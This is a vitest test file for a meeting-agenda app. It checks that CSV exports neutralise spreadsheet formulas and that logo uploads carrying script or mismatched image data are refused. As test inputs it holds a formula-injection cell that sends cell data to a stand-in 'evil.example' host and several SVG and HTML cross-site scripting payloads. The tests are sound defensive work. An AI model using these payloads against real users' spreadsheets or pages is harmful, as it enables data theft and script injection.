// What leaves Referent is inert: a .csv cell never runs as a formula in a spreadsheet, the HTML of
// the preview and the PDF never carries markup from a value, and the organisation logo is real
// image data of its declared type, or it is refused (and, already stored, left out).
import { describe, expect, test } from 'vitest';
import { call } from '../../src-main/core/dispatch';
import type { CoreContext } from '../../src-main/core/context';
import { testContext } from '../helpers/store';

const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 1, 0, 72, 0, 72, 0, 0, 0xff, 0xc0, 0, 17, 8, 0, 1, 0, 1, 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1, 0xff, 0xd9]).toString('base64');

async function meeting(ctx: CoreContext, committee = 'Økonomiudvalget', location = 'Rådhuset') {
  const c = await call(ctx, 'committees.create', { name: committee, numbering: 'per-meeting' });
  const m = await call(ctx, 'meetings.create', { committeeId: c.id, start: '2027-03-04T16:00', location });
  await call(ctx, 'agenda.addItem', { meetingId: m.id, title: 'Budget' });
  return { committeeId: c.id, meetingId: m.id };
}

describe('the calendar .csv', () => {
  test('a committee or place that a spreadsheet would read as a formula is written as text, and re-imports as it was', async () => {
    const ctx = testContext();
    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1;"Klik")', '+45 7070 7070', '-2+3', '@SUM(1+1)'];
    for (const [i, f] of formulas.entries()) await meeting(ctx, i % 2 === 0 ? f : `Udvalg ${i}`, i % 2 === 0 ? 'Rådhuset' : f);
    const file = await call(ctx, 'calendar.export', { format: 'csv', year: 2027 });
    const text = Buffer.from(file.base64, 'base64').subarray(3).toString('utf8');
    const cells = text
      .trimEnd()
      .split('\r\n')
      .slice(1)
      .flatMap((l) => l.match(/("(?:[^"]|"")*"|[^;]*)(;|$)/g)!.map((c) => c.replace(/;$/, '').replace(/^"(.*)"$/, '$1').replaceAll('""', '"')));
    // No cell of the file starts with a character a spreadsheet evaluates.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(formulas.map((f) => `'${f}`)));
    // The apostrophe is ours: a re-import finds every meeting unchanged, under its real name and place.
    expect(await call(ctx, 'calendar.applyImport', { fileName: file.fileName, base64: file.base64 })).toMatchObject({ added: 0, unchanged: 4 });
    const committees = await call(ctx, 'committees.list', {});
    expect(committees.map((c) => c.name).sort()).toEqual([formulas[0], formulas[2], 'Udvalg 1', 'Udvalg 3'].sort());
  });
});

describe('the organisation logo', () => {
  test('is refused, in English and Danish, unless its bytes are an image of the declared type', async () => {
    const ctx = testContext();
    const refused = [
      { mime: 'image/png' as const, base64: JPEG },
      { mime: 'image/jpeg' as const, base64: PNG },
      { mime: 'image/png' as const, base64: `${PNG}"><script>alert(1)</script>` },
      { mime: 'image/svg+xml' as const, base64: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64') },
      { mime: 'image/svg+xml' as const, base64: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>').toString('base64') },
      { mime: 'image/svg+xml' as const, base64: Buffer.from('<html><body>not an svg</body></html>').toString('base64') },
    ];
    for (const logo of refused) {
      await expect(call(ctx, 'settings.update', { logo })).rejects.toMatchObject({ code: 'Invalid', message: expect.stringMatching(/^The logo cannot be used: /), da: expect.stringMatching(/^Logoet kan ikke bruges: /) });
    }
    expect((await call(ctx, 'settings.get', {})).logo).toBeNull();
    for (const logo of [{ mime: 'image/png' as const, base64: PNG }, { mime: 'image/jpeg' as const, base64: JPEG }, { mime: 'image/svg+xml' as const, base64: Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10" fill="#1a4d8f"/></svg>\n').toString('base64') }]) {
      expect((await call(ctx, 'settings.update', { logo })).logo).toEqual(logo);
    }
  });

  test('a bad logo already in the file (older version, direct edit) is not served and never reaches the printed page', async () => {
    const ctx = testContext();
    const { meetingId } = await meeting(ctx);
    await call(ctx, 'settings.update', { name: 'Haderslev Kommune', logo: { mime: 'image/png', base64: PNG } });
    let html = (await call(ctx, 'documents.preview', { meetingId, kind: 'agenda' })).html;
    expect(html).toContain(`<img class="logo" alt="Haderslev Kommune" src="data:image/png;base64,${PNG}">`);
    const bad = { mime: 'image/png', base64: `${PNG}"><script>alert(1)</script><img src="` };
    await ctx.store.db.updateTable('settings').set({ value: JSON.stringify(bad) }).where('key', '=', 'organization.logo').execute();
    expect((await call(ctx, 'settings.get', {})).logo).toBeNull();
    html = (await call(ctx, 'documents.preview', { meetingId, kind: 'agenda' })).html;
    expect(html).not.toContain('<script');
    expect(html).not.toContain('class="logo"');
  });
});
